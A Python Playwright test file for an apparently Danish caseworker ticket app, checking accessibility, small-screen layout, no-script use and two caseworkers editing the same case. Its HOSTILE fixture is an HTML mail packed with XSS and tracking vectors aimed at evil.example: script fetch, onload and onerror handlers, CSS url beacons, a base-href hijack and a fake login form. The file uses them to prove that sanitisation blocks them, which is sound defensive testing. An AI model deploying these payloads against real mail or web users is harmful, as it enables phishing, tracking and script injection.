"""A ticket as it looks in a real browser: to everybody, in one look, and whatever a mail brings."""

from collections.abc import Iterator

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, expect

from intake.documents import Isolation
from tests.builders import a_mail, a_pdf, a_request, an_agreement
from tests.cast import CVR, IB
from tests.web.test_as_sent import html_mail
from tests.web.test_guard import routes
from tests.web.visitors import PASSWORD, Served
from web.app import create_app
from workflow import caseworkers, changes
from workflow.states import State

COMPLETE = a_mail(
    a_request(),
    message_id="<complete@nordlys-job.example>",
    pdfs={"Aftale Køge.pdf": an_agreement(), "Bilag.pdf": a_pdf(["Bilag"], 3)},
)

# A browser sees nothing of the engine; what it asks for is tested on both.
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
FOUR = a_mail(
    a_request(place="jobcentrene i Sønderborg, Aabenraa, Haderslev og Tønder"),
    message_id="<four@nordlys-job.example>",
    pdfs={f"{place}.pdf": an_agreement(place) for place in
          ("Sønderborg", "Aabenraa", "Haderslev", "Tønder")},
)  # fmt: skip
HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/gone">
<style>@import "https://evil.example/a.css";
body::before { content: url(https://evil.example/b.png) } .x { position: fixed; inset: 0 }</style>
<link rel="stylesheet" href="https://evil.example/c.css"></head>
<body onload="top.location='https://evil.example/'" background="https://evil.example/d.png">
<script>top.document.title = "overtaget"; fetch("https://evil.example/e")</script>
<svg onload="alert(1)"><image href="https://evil.example/f.png"/></svg>
<p class="x" style="position:fixed;top:0;left:0;width:9999px;background:\\75rl(https://evil.example/g)">
Vil I oprette Zenia Holm Aagaard (zenia@nordlys-job.example) med adgang til Jobcenter Køge?
Vi er Nordlys Job ApS, CVR 29947643.</p>
<img src="https://evil.example/h.gif" onerror="alert(2)" alt="sporing">
<video src="//evil.example/i"></video><iframe src="https://evil.example/j"></iframe>
<object data="https://evil.example/k"></object>
<form action="https://evil.example/l"><input name="kode" autofocus onfocus="alert(3)">
<button>Log ind igen</button></form>
<a href="https://evil.example/m" ping="https://evil.example/n" onclick="alert(4)">www.star.dk</a>
"""
GIANT = "<table>" + "<tr>" + "<td width='3000'>bred</td>" * 60 + "</tr></table>"


@pytest.fixture
def context(browser: Browser, served: Served) -> Iterator[BrowserContext]:
    opened = browser.new_context(base_url=served.url, viewport={"width": 1440, "height": 900})
    yield opened
    opened.close()


def logged_in(context: BrowserContext, name: str = IB) -> Page:
    page = context.new_page()
    page.goto("/log-ind")
    page.get_by_label("Navn").fill(name)
    page.get_by_label("Adgangskode").fill(PASSWORD)
    page.get_by_role("button", name="Log ind").click()
    page.wait_for_url("**/koe*")
    return page


def test_every_page_can_be_used_by_all(
    browser: Browser, served: Served, documents: Isolation
) -> None:
    office = served.office
    known = office.arrive(COMPLETE).number
    changes.approve(office.desk, known, IB, None, office.now)
    office.work("provision")
    ready, lacking = (office.arrive(FOUR), office.arrive(a_mail(a_request(), message_id="<3@x>")))
    office.arrive(html_mail(HOSTILE + GIANT + "CPR 010190-1234"))
    app = create_app(office.desk, lambda: office.now, served.url, 10, documents)
    found = {path for method, path in routes(app, f"LS-{ready.number}", "2") if method == "GET"}
    number = lacking.number
    found |= {f"/sag/LS-{known}", f"/sag/LS-{number}", f"/sag/LS-{number + 1}", "/findes-ikke"}
    found |= {f"/aktoer/{CVR}", "/koe?tilstand=afventer", "/koe?tilstand=til-afklaring"}
    pages = sorted(path for path in found if not path.startswith(("/health", "/hjaelp/billeder")))
    for scheme in ("light", "dark"):
        context = browser.new_context(
            base_url=served.url,
            color_scheme=scheme,  # type: ignore[arg-type]
            reduced_motion="reduce",
            viewport={"width": 320, "height": 900},
        )
        page = logged_in(context)
        shown = [path for path in pages if _is_page(page, path)]
        assert len(shown) > 12, shown
        for path in shown:
            page.goto(path, wait_until="load")
            assert page.evaluate("document.documentElement.scrollWidth") <= 320, path
            # In the dark all is the same but the colours.
            assert _hindrances(page, "color-contrast" * (scheme == "dark")) == [], (scheme, path)
        page.set_viewport_size({"width": 1440, "height": 900})
        page.goto(f"/sag/LS-{ready.number}")
        assert _hindrances(page) == [], scheme
        context.close()


def _is_page(page: Page, path: str) -> bool:
    answer = page.request.get(path, max_redirects=0)
    return answer.headers.get("content-type", "").startswith("text/html")


def _hindrances(page: Page, rule: str = "") -> list[str]:
    """What axe finds that keeps people out, also in the page's frames."""
    options = {"runOnly": [rule]} if rule else None
    return [
        f"{found['id']}: {node['target']}"
        for found in Axe().run(page, options=options).response["violations"]
        for node in found["nodes"]
    ]


def test_a_hostile_mail_runs_nothing_and_loads_nothing(
    served: Served, context: BrowserContext
) -> None:
    number = served.office.arrive(html_mail(HOSTILE + GIANT)).number
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = logged_in(context)
    page.on("dialog", lambda dialog: pytest.fail(f"a mail opened a dialog: {dialog.message}"))
    page.goto(f"/sag/LS-{number}")
    page.get_by_label("Som den er sendt").check()
    mail = page.frame_locator("iframe[title^=Mailen]")
    expect(mail.get_by_text("Vil I oprette Zenia")).to_be_visible()
    expect(mail.get_by_text("[https://evil.example/m]")).to_be_visible()
    assert mail.locator("form, input, button, script, style ~ style, svg, iframe").count() == 0
    assert mail.locator("main *").evaluate_all(
        "all => all.every(one => getComputedStyle(one).position === 'static')"
    )
    page.wait_for_timeout(500)
    assert [url for url in asked if not url.startswith((served.url, "data:"))] == []
    assert page.title().startswith(f"LS-{number} ")
    assert page.evaluate("document.documentElement.scrollWidth") <= 1440
    page.get_by_label("Tekst med fund").check()
    expect(page.locator(".as-text")).to_contain_text("Zenia Holm Aagaard")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog", name="Taster")).to_be_visible()


@pytest.mark.parametrize("mail", [COMPLETE, FOUR], ids=["one", "four"])
def test_a_complete_request_is_decided_in_one_look(
    served: Served, context: BrowserContext, mail: bytes
) -> None:
    number = served.office.arrive(mail).number
    page = logged_in(context)
    page.goto(f"/sag/LS-{number}")
    for seen in (
        page.get_by_role("button", name="Godkend"),
        page.get_by_role("heading", name="Kontrol"),
        page.get_by_text("Der er en gyldig aftale for"),
        page.get_by_text("som Sagsbehandler på"),
        page.get_by_role("heading", name="Oprettelse"),
    ):
        box = seen.bounding_box()
        assert box, seen
        assert box["y"] + box["height"] <= 900, seen
    page.keyboard.press("a")
    expect(page.get_by_role("status").filter(has_text="Sagen er godkendt.")).to_be_visible()
    assert served.office.ticket(number).state is State.APPROVED


def test_a_value_leads_to_its_place_on_the_page(served: Served, context: BrowserContext) -> None:
    number = served.office.arrive(FOUR).number
    page = logged_in(context)
    page.goto(f"/sag/LS-{number}")
    row = page.get_by_role("listitem").filter(has_text="Haderslev.pdf").first
    row.get_by_role("link", name="31. december 2028").press("Enter")
    frame = page.frame_locator("iframe.paper")
    expect(frame.get_by_role("heading", level=1)).to_have_text("Haderslev.pdf")
    target = frame.locator("g:target")
    expect(target).to_have_attribute("aria-label", "Aftalen gælder til: 31.12.2028")
    across, down = target.evaluate(
        """(mark) => {
          const page = mark.closest(".picture").getBoundingClientRect();
          const box = mark.firstElementChild.nextElementSibling.getBoundingClientRect();
          return [(box.x - page.x) / page.width, (box.y - page.y) / page.height];
        }"""
    )
    # The line begins 70 points from the left, 72 and 3 lines of 18 from the top of an A4 page.
    assert 0.36 < across < 0.44
    assert 0.125 < down < 0.145
    expect(frame.locator("img")).to_have_js_property("complete", True)
    assert frame.locator("img").evaluate("image => image.naturalWidth") > 1_000


def test_it_can_be_looked_at_without_scripts(browser: Browser, served: Served) -> None:
    number = served.office.arrive(html_mail(f"<p>{a_request()}</p>", a_request())).number
    other = served.office.arrive(COMPLETE).number
    context = browser.new_context(base_url=served.url, java_script_enabled=False)
    page = logged_in(context)
    page.goto(f"/sag/LS-{number}")
    page.get_by_label("Som den er sendt").check()
    expect(page.locator(".as-text")).to_be_hidden()
    expect(page.locator(".as-sent iframe")).to_be_visible()
    page.get_by_role("link", name="29 94 76 43").first.click()
    expect(page.locator("mark:target")).to_be_visible()
    page.goto(f"/sag/LS-{other}")
    page.get_by_role("link", name="31. december 2028").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Aftale Køge.pdf")
    page.get_by_role("link", name=f"← LS-{other}").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(f"LS-{other}")
    context.close()


def test_two_see_each_other_and_what_the_other_did(
    browser: Browser, served: Served, context: BrowserContext
) -> None:
    caseworkers.add(served.office.desk.database, "bo", "caseworker", PASSWORD)
    number = served.office.arrive(COMPLETE).number
    hers = logged_in(context)
    with hers.expect_response("**/ser-med"):
        hers.goto(f"/sag/LS-{number}")
    expect(hers.locator("[data-beat]")).to_have_text("")
    theirs = browser.new_context(base_url=served.url)
    his = logged_in(theirs, "bo")
    his.goto(f"/sag/LS-{number}")
    expect(his.get_by_text("ib ser også på sagen siden 12.00")).to_be_visible()
    his.get_by_role("button", name="Godkend").click()
    his.wait_for_url("**gjort=godkend")
    hers.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(hers.get_by_text("bo ser også på sagen siden 12.00")).to_be_visible()
    expect(hers.get_by_text("Sagen er ændret, siden du åbnede den.")).to_be_visible()
    theirs.close()
    hers.keyboard.press("a")
    expect(hers.get_by_text("Din handling er ikke udført.")).to_be_visible()
    expect(hers.get_by_text("bo · Godkendt").first).to_be_visible()
